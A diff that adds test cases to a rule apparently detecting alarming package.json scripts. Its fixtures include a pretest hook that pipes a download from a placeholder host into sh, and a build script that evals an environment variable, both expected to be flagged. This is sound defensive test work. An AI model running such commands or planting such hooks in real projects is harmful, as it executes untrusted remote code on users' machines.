@@ -44,6 +44,23 @@ diffRuleTester(rule, {
   ],
   invalid: [
     {
+      name: 'pretest hook that pipes a download into a shell',
+      change: change({ ...base, scripts: { ...base.scripts, pretest: 'curl -s https://x.example/t.sh | sh' } }),
+      errors: [
+        {
+          messageId: 'scriptAlarming',
+          severity: 'high',
+          message:
+            'The `pretest` script, which runs by itself around `npm run test`, downloads, decodes or evaluates code: `curl -s https://x.example/t.sh | sh`. Whoever runs it runs what it fetches.',
+        },
+      ],
+    },
+    {
+      name: 'ordinary script changed to evaluate code',
+      change: change({ ...base, scripts: { build: 'node -e "eval(process.env.B)"', test: 'jest' } }),
+      errors: [{ messageId: 'scriptAlarming', severity: 'high' }],
+    },
+    {
       name: 'new dependency',
       change: change({ ...base, dependencies: { ...base.dependencies, zod: '^3.22.0' } }),
       errors: [
